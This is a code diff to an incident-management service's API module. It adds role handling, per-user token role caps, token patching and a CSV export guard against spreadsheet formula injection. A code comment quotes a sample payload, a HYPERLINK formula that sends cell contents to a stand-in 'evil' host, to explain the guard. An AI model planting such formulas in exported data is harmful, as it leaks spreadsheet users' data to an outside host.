@@ -7,23 +7,39 @@ import re
 import secrets
 from dataclasses import dataclass
 from datetime import datetime
-from typing import Any, Generic, TypeVar
+from enum import StrEnum
+from typing import Any, Final, Generic, Literal, TypeVar
 
 import msgspec
 
-from imas_contracts import FieldError
+from imas_contracts import FieldError, alert_payloads
 from imas_contracts.incidents import SEVERITIES, IncidentSnapshot, IncidentView, TimelineEntry
+from imas_contracts.ingest import SubmitAlert
 from imas_runtime.errors import Invalid
 
 T = TypeVar("T")
 
-# People's roles, each one allowed everything the roles before it are allowed.
-PEOPLE_ROLES = ("viewer", "operator", "responder", "manager", "admin")
-# Machines posting alerts: webhooks and incident creation only.
-INTEGRATION = "integration"
-ROLES = (*PEOPLE_ROLES, INTEGRATION)
+
+class Role(StrEnum):
+    """What a caller may do. People's roles are ordered, each allowed everything the roles
+    before it are; ``integration`` is a machine posting alerts (webhooks and incident creation
+    only)."""
+
+    VIEWER = "viewer"
+    OPERATOR = "operator"
+    RESPONDER = "responder"
+    MANAGER = "manager"
+    ADMIN = "admin"
+    INTEGRATION = "integration"
+
+
+PEOPLE_ROLES: tuple[str, ...] = tuple(r.value for r in Role if r is not Role.INTEGRATION)
+INTEGRATION = Role.INTEGRATION.value
+ROLES: tuple[str, ...] = (*PEOPLE_ROLES, INTEGRATION)
 # Routes anyone may call (their callers prove themselves another way: signatures, secrets).
-PUBLIC = "public"
+PUBLIC: Final = "public"
+# The least a route may ask of its callers: a role, or nothing (``PUBLIC``).
+Access = Role | Literal["public"]
 # Tokens for machines (and admins) get the high rate limit by default, people's the low one.
 SERVICE_ROLES = ("admin", INTEGRATION)
 
@@ -49,8 +65,47 @@ class Principal:
     def limit_key(self) -> str:
         return f"token:{self.token_id}" if self.token_id else f"user:{self.user_id or self.name}"
 
+    @property
+    def actor_id(self) -> str:
+        """Who acts, as an identity no one can choose: ``user:<id>`` for a person (signed in,
+        or through a token of theirs), else ``token:<id>``. Names are only for display."""
+        return f"user:{self.user_id}" if self.user_id else f"token:{self.token_id}"
 
-def role_allows(role: str, required: str, *, integration: bool = False) -> bool:
+
+@dataclass(frozen=True)
+class Holder:
+    """A user as their credentials stand now: whether their tokens and sessions still work,
+    and with which role. ``version`` goes up when they are disabled, or their role or
+    password changes."""
+
+    user_id: str
+    username: str
+    role: str
+    active: bool
+    version: int
+
+    def principal(self) -> Principal:
+        """The user acting in person (signed in to the dashboard)."""
+        return in_person(self.user_id, self.username, self.role)
+
+
+def in_person(user_id: str, username: str, role: str) -> Principal:
+    """The principal of a user acting in person (a dashboard session): no token."""
+    return Principal(token_id="", name=username, role=role, user_id=user_id, username=username)
+
+
+def holder_of(row: Any) -> Holder:
+    """The ``Holder`` of a users row."""
+    return Holder(
+        user_id=str(row.id),
+        username=row.username,
+        role=row.role,
+        active=row.active,
+        version=row.credentials_version,
+    )
+
+
+def role_allows(role: str, required: Access, *, integration: bool = False) -> bool:
     """Whether ``role`` may call a route declared for ``required`` (and ``integration``)."""
     if required == PUBLIC:
         return True
@@ -59,6 +114,13 @@ def role_allows(role: str, required: str, *, integration: bool = False) -> bool:
     if role not in PEOPLE_ROLES or required not in PEOPLE_ROLES:
         return False
     return PEOPLE_ROLES.index(role) >= PEOPLE_ROLES.index(required)
+
+
+def lower_role(first: str, second: str) -> str | None:
+    """The lesser of two people's roles; None when either is not a person's role."""
+    if first not in PEOPLE_ROLES or second not in PEOPLE_ROLES:
+        return None
+    return PEOPLE_ROLES[min(PEOPLE_ROLES.index(first), PEOPLE_ROLES.index(second))]
 
 
 def new_token() -> str:
@@ -99,6 +161,25 @@ class TokenCreate(msgspec.Struct, kw_only=True, forbid_unknown_fields=True):
     rate_window: float | None = None
 
 
+class TokenPatch(msgspec.Struct, kw_only=True, forbid_unknown_fields=True):
+    """``PATCH /api/v1/tokens/{id}/``: the fields given change, the secret never does;
+    ``null`` clears a limit or the expiry."""
+
+    role: str | msgspec.UnsetType = msgspec.UNSET
+    scopes: list[str] | msgspec.UnsetType = msgspec.UNSET
+    rate_limit: int | msgspec.UnsetType | None = msgspec.UNSET
+    rate_window: float | msgspec.UnsetType | None = msgspec.UNSET
+    expires_at: datetime | msgspec.UnsetType | None = msgspec.UNSET
+
+
+def patched_token(row: Any, patch: TokenPatch, now: datetime) -> TokenCreate:
+    """The token ``row`` with ``patch`` applied, checked as a new one would be."""
+    fields = ("role", "scopes", "rate_limit", "rate_window", "expires_at")
+    values = {f: getattr(row, f) for f in fields}
+    values.update({f: getattr(patch, f) for f in fields if getattr(patch, f) is not msgspec.UNSET})
+    return check_token_create(TokenCreate(name=row.name, **values), now)
+
+
 def check_token_create(spec: TokenCreate, now: datetime) -> TokenCreate:
     """Every problem of a token request as an ``Invalid`` naming its field."""
     errors: list[FieldError] = []
@@ -121,12 +202,24 @@ def check_token_create(spec: TokenCreate, now: datetime) -> TokenCreate:
     return spec
 
 
-def token_principal(row: Any) -> Principal:
+def token_principal(row: Any, holder: Holder | None) -> Principal | None:
+    """Who a token stands for. A token of a user works only while that user (``holder``)
+    exists and is active, never with more than their current role, and goes by their
+    username; a token of no user goes by its own name. None when it must not work."""
+    role, name, username = row.role, row.name, ""
+    if row.user_id is not None:
+        if holder is None or not holder.active:
+            return None
+        role = lower_role(row.role, holder.role)
+        if role is None:
+            return None
+        name = username = holder.username
     return Principal(
         token_id=str(row.id),
-        name=row.name,
-        role=row.role,
+        name=name,
+        role=role,
         user_id=str(row.user_id) if row.user_id else None,
+        username=username,
         scopes=tuple(row.scopes or ()),
         rate_limit=row.rate_limit,
         rate_window=row.rate_window,
@@ -145,6 +238,8 @@ class TokenJson(msgspec.Struct, kw_only=True):
     rate_window: float | None
     created_by: str
     user_id: str | None
+    # The username of the user the token belongs to (None for tokens of no user).
+    username: str | None = None
     created_at: str | None
     expires_at: str | None
     last_used_at: str | None
@@ -177,12 +272,13 @@ def token_json(row: Any) -> dict[str, Any]:
         rate_window=row.rate_window,
         created_by=row.created_by,
         user_id=str(row.user_id) if row.user_id else None,
+        username=getattr(row, "username", None),
         created_at=when(row.created_at),
         expires_at=when(row.expires_at),
         last_used_at=when(row.last_used_at),
         revoked_at=when(row.revoked_at),
     )
-    return msgspec.to_builtins(shown)  # type: ignore[no-any-return]
+    return reply_json(shown)
 
 
 class IncidentCreate(msgspec.Struct, kw_only=True, forbid_unknown_fields=False):
@@ -199,34 +295,22 @@ class IncidentCreate(msgspec.Struct, kw_only=True, forbid_unknown_fields=False):
 
 
 _create_decoder = msgspec.json.Decoder(IncidentCreate)
-_MISSING = re.compile(r"Object missing required field `([^`]+)`")
-_AT = re.compile(r"- at `\$\.?([^`\[]*)")
-
-
-def _field_of(error: msgspec.ValidationError) -> tuple[str, str]:
-    text = str(error)
-    missing = _MISSING.search(text)
-    if missing:
-        field = missing.group(1)
-        at = _AT.search(text)
-        prefix = f"{at.group(1)}." if at and at.group(1) else ""
-        return prefix + field, "is required"
-    at = _AT.search(text)
-    message = text.split(" - at ")[0]
-    return (at.group(1) if at else ""), message
 
 
 def parse_incident_create(body: bytes) -> IncidentCreate:
-    """Decode and validate a create body; every problem is an ``Invalid`` naming its field."""
+    """Decode and check a create body; every problem is an ``Invalid`` naming its field."""
     try:
         payload = _create_decoder.decode(body)
     except msgspec.ValidationError as exc:
-        field, message = _field_of(exc)
-        if field == "severity":
-            message = f"must be one of {', '.join(SEVERITIES)}"
-        raise Invalid.field(field or "body", message) from None
+        error = alert_payloads.field_error(exc)
+        raise Invalid.field(error.field, error.message) from None
     except msgspec.DecodeError:
         raise Invalid.field("body", "must be a JSON object") from None
+    return check_incident_create(payload)
+
+
+def check_incident_create(payload: IncidentCreate) -> IncidentCreate:
+    """Every problem of a decoded create body as an ``Invalid`` naming its field."""
     errors: list[FieldError] = []
     if not payload.title.strip():
         errors.append(FieldError(field="title", message="must not be empty"))
@@ -245,6 +329,24 @@ def parse_incident_create(body: bytes) -> IncidentCreate:
     return payload
 
 
+def submission(payload: IncidentCreate, principal: Principal) -> SubmitAlert:
+    """What ingest is asked for a validated create body: open an incident, or attach to the
+    open one of the service (and dedup key)."""
+    return SubmitAlert(
+        title=payload.title,
+        description=payload.description,
+        service_name=payload.service_name,
+        severity=payload.severity,  # type: ignore[arg-type]  # validated by the domain
+        dedup_key=payload.dedup_key,
+        detected_at=payload.detected_at,
+        source="api",
+        actor=principal.name,
+        actor_id=principal.actor_id,
+        tags=payload.tags,
+        impacted_scopes=payload.impacted_scopes,
+    )
+
+
 class Page(msgspec.Struct, Generic[T], kw_only=True):
     """A page of a list: how many match in all, links to the next and previous pages (None at
     either end), and this page's results."""
@@ -260,6 +362,11 @@ class Results(msgspec.Struct, Generic[T], kw_only=True):
 
     count: int
     results: list[T]
+
+
+def whole_page(results: list[Any]) -> dict[str, Any]:
+    """A whole list as a ``Page``: no next or previous page."""
+    return {"count": len(results), "next": None, "previous": None, "results": results}
 
 
 class IncidentJson(IncidentSnapshot, frozen=True, kw_only=True):
@@ -288,7 +395,7 @@ def _shown(incident: IncidentSnapshot) -> IncidentJson:
 
 def incident_json(incident: IncidentSnapshot) -> dict[str, object]:
     """An incident as the public API shows it (an ``IncidentJson``)."""
-    return msgspec.to_builtins(_shown(incident))  # type: ignore[no-any-return]
+    return reply_json(_shown(incident))
 
 
 def incident_detail_json(view: IncidentView) -> dict[str, object]:
@@ -296,7 +403,13 @@ def incident_detail_json(view: IncidentView) -> dict[str, object]:
     detail = IncidentDetailJson(
         **msgspec.structs.asdict(_shown(view.incident)), timeline=view.timeline
     )
-    return msgspec.to_builtins(detail)  # type: ignore[no-any-return]
+    return reply_json(detail)
+
+
+def reply_json(message: msgspec.Struct) -> dict[str, Any]:
+    """A service's reply as JSON values, as it is (its message type tag included)."""
+    data: dict[str, Any] = msgspec.to_builtins(message)
+    return data
 
 
 def message_json(message: msgspec.Struct) -> dict[str, Any]:
@@ -304,3 +417,16 @@ def message_json(message: msgspec.Struct) -> dict[str, Any]:
     data: dict[str, Any] = msgspec.to_builtins(message)
     data.pop("type", None)
     return data
+
+
+# A spreadsheet reads a cell starting with one of these as a formula (or, for tab and CR, may
+# shift it into one): ``=HYPERLINK("http://evil/?"&A1, "Runbook")`` in an alert title.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value: Any) -> Any:
+    """A CSV cell no spreadsheet evaluates: text starting like a formula gets a leading
+    apostrophe (OWASP's advice); numbers, dates and empty cells are left as they are."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
